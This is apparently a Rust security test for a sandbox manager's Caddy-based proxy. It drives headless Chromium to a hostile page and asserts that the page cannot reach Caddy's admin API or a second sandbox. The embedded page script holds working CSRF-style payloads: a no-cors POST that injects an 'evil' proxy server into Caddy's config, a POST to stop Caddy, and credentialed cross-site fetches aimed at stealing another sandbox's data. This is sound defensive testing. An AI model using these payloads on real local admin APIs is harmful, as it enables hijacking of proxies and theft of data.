//! The owner's browser as an attacker's path: a real Chromium (Debian's
//! `chromium`, headless) opens a hostile page that sandbox `a` serves
//! through its link, after the owner opened sandbox `b`'s link (so the
//! browser holds `b`'s token as a cookie). The page throws at every
//! control plane it can name: Caddy's admin API on its loopback port
//! (a "simple" `POST` needs no preflight), and `b`'s link (the same site
//! to the browser, which sends `b`'s cookie along). Afterwards the host is
//! checked: Caddy's configuration is unchanged and Caddy still runs, and
//! `b`'s dev server saw none of the page's requests.

mod common;

use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::caddy::{Caddy, free_port};
use common::{Env, wait_for};

const DEADLINE: Duration = Duration::from_secs(60);

/// A dev server for the test: `/` serves `page.html` of its directory,
/// every request is appended (method, path, Origin, Sec-Fetch-Site, and a
/// POST's body) to `requests.log` there.
const SERVER: &str = r#"
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def record(self, body=b''):
        with open('requests.log', 'ab') as f:
            f.write(('%s %s origin=%s site=%s\n' % (self.command, self.path,
                self.headers.get('Origin'), self.headers.get('Sec-Fetch-Site'))).encode())
            if body: f.write(b'body ' + body + b'\n')
    def answer(self, data, kind='text/plain'):
        self.send_response(200)
        self.send_header('Content-Type', kind)
        self.send_header('Content-Length', str(len(data)))
        self.end_headers()
        self.wfile.write(data)
    def do_GET(self):
        self.record()
        if self.path == '/':
            self.answer(open('page.html', 'rb').read(), 'text/html')
        else:
            self.answer(b'secret-of-' + sys.argv[2].encode())
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get('Content-Length') or 0))
        self.record(body)
        self.answer(b'ok')
http.server.ThreadingHTTPServer(('127.0.0.1', int(sys.argv[1])), H).serve_forever()
"#;

/// Serve `page` at `/` of sandbox `name`'s main worktree on `port`.
fn serve(env: &Env, name: &str, port: u16, page: &str) {
    env.ok(&[
        "exec",
        name,
        "--",
        "python3",
        "-c",
        "import sys; open('page.html', 'w').write(sys.argv[1]); open('server.py', 'w').write(sys.argv[2])",
        page,
        SERVER,
    ]);
    env.ok(&[
        "exec",
        name,
        "--",
        "sh",
        "-c",
        &format!("python3 server.py {port} {name} >/dev/null 2>&1 &"),
    ]);
}

/// The link of sandbox `name` with its token, once agentd routes it.
fn link(env: &Env, name: &str) -> String {
    let mut url = String::new();
    wait_for("a link with a token", DEADLINE, || {
        let routes: serde_json::Value =
            serde_json::from_str(&env.ok(&["ports", name, "--json"])).unwrap();
        url = routes["routes"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|r| r["url"].as_str())
            .find(|u| u.starts_with(&format!("http://{name}.sandbox.localhost")))
            .unwrap_or_default()
            .to_owned();
        url.contains("?keystone_token=")
    });
    url
}

/// The requests sandbox `name`'s dev server saw.
fn requests(env: &Env, name: &str) -> String {
    env.ok(&[
        "exec",
        name,
        "--",
        "sh",
        "-c",
        "cat requests.log 2>/dev/null || true",
    ])
}

#[test]
fn a_hostile_page_in_the_owners_browser_reaches_no_control_plane() {
    if !common::cdp::available() {
        return;
    }
    let mut env = Env::bus_only();
    // Caddy's admin API on a loopback port, as nixpkgs' Caddy and
    // Debian's have it unless told otherwise.
    let caddy = Caddy::start(env.tmp.path());
    let config = env.tmp.path().join("agentd.json");
    std::fs::write(
        &config,
        format!(
            r#"{{"proxy":{{"enable":true,"domain":"sandbox.localhost","caddy_admin":"{}","listen":["127.0.0.1:{}"],"https":false,"auth":"owner"}}}}"#,
            caddy.admin_address(),
            caddy.http
        ),
    )
    .unwrap();
    env.config = Some(config);
    env.start_agentd();
    for name in ["a", "b"] {
        let repo = env.repo(name);
        env.ok(&["create", repo.to_str().unwrap()]);
        env.ok(&["start", name]);
    }
    let admin = format!("http://127.0.0.1:{}", caddy.admin);
    let b_origin = format!("http://b.sandbox.localhost:{}", caddy.http);
    let evil_port = free_port();
    let evil = format!(
        r#"{{"listen":["127.0.0.1:{evil_port}"],"routes":[{{"handle":[{{"handler":"reverse_proxy","upstreams":[{{"dial":"127.0.0.1:{}"}}]}}]}}]}}"#,
        caddy.admin
    );
    let hostile = format!(
        r#"<!doctype html><title>hostile</title><script>
const results = {{}};
async function t(name, f) {{
  try {{ const r = await f(); results[name] = r.type + ' ' + r.status + ' ' + (r.type === 'opaque' ? '' : await r.text()); }}
  catch (e) {{ results[name] = 'error ' + e; }}
}}
const wait = (ms) => new Promise(res => setTimeout(res, ms));
(async () => {{
  await t('own', () => fetch('/own'));
  await t('admin-server', () => fetch('{admin}/config/apps/http/servers/evil',
    {{method: 'POST', mode: 'no-cors', headers: {{'Content-Type': 'text/plain; x=/json'}}, body: {evil:?}}}));
  await t('admin-read', () => fetch('{admin}/config/'));
  await t('b-read', () => fetch('{b_origin}/steal', {{credentials: 'include'}}));
  await t('b-post', () => fetch('{b_origin}/csrf', {{method: 'POST', mode: 'no-cors', credentials: 'include', body: 'x'}}));
  await t('b-get', () => fetch('{b_origin}/nocors', {{mode: 'no-cors', credentials: 'include'}}));
  await new Promise(res => {{ const i = new Image(); i.onload = i.onerror = res; i.src = '{b_origin}/img'; }});
  await Promise.race([wait(2000), new Promise(res => {{
    const w = new WebSocket('ws://b.sandbox.localhost:{http}/ws');
    w.onopen = w.onerror = w.onclose = res;
  }})]);
  await t('admin-stop', () => fetch('{admin}/stop', {{method: 'POST', mode: 'no-cors'}}));
  await fetch('/report', {{method: 'POST', body: JSON.stringify(results)}});
  document.title = 'done';
}})();
</script>"#,
        http = caddy.http,
    );
    serve(&env, "a", free_port(), &hostile);
    let a_link = link(&env, "a");
    // b's page sends the browser on to a's link, as a click would.
    serve(
        &env,
        "b",
        free_port(),
        &format!("<!doctype html><title>b</title><script>location.href = {a_link:?};</script>"),
    );
    let b_link = link(&env, "b");
    wait_for("Caddy's origin check", DEADLINE, || {
        caddy.config("/config/admin")["enforce_origin"] == true
    });
    // (Caddy restarts its admin endpoint when the check is turned on.)
    let mut before = serde_json::Value::Null;
    wait_for("Caddy's configuration", DEADLINE, || {
        before = caddy.config("/config/apps/http/servers");
        !before.is_null()
    });

    let profile = env.tmp.path().join("chromium");
    let mut browser = Command::new("chromium")
        .args(common::cdp::HEADLESS)
        .args(["--virtual-time-budget=20000", "--dump-dom"])
        .arg(format!("--user-data-dir={}", profile.display()))
        .arg(&b_link)
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let start = Instant::now();
    let report = loop {
        let seen = requests(&env, "a");
        if seen.contains("POST /report") || start.elapsed() > DEADLINE {
            break seen;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    let _ = browser.kill();
    let _ = browser.wait();
    eprintln!("--- what a's page saw ---\n{report}");
    let b_seen = requests(&env, "b");
    eprintln!("--- what b's dev server saw ---\n{b_seen}");

    // The page ran, and its own requests worked.
    assert!(report.contains("GET /own"), "{report}");
    assert!(
        report.contains("POST /report"),
        "the page never reported: {report}"
    );
    // b's link answered its owner's navigation...
    assert!(b_seen.contains("GET / "), "{b_seen}");
    // ...and nothing of a's page.
    for path in ["/steal", "/csrf", "/nocors", "/img", "/ws"] {
        assert!(
            !b_seen.contains(&format!(" {path} ")),
            "a's page reached b's dev server at {path}:\n{b_seen}"
        );
    }
    assert!(!report.contains("secret-of-b"), "{report}");
    // Caddy still runs, unchanged, and listens on nothing new.
    let after = caddy.config("/config/apps/http/servers");
    assert!(!after.is_null(), "Caddy's admin API no longer answers");
    assert!(after.get("evil").is_none(), "{after:#}");
    assert_eq!(
        before
            .as_object()
            .map(|o| o.keys().cloned().collect::<Vec<_>>()),
        after
            .as_object()
            .map(|o| o.keys().cloned().collect::<Vec<_>>())
    );
    assert!(
        std::net::TcpStream::connect(("127.0.0.1", evil_port)).is_err(),
        "something listens on the page's port {evil_port}"
    );
}
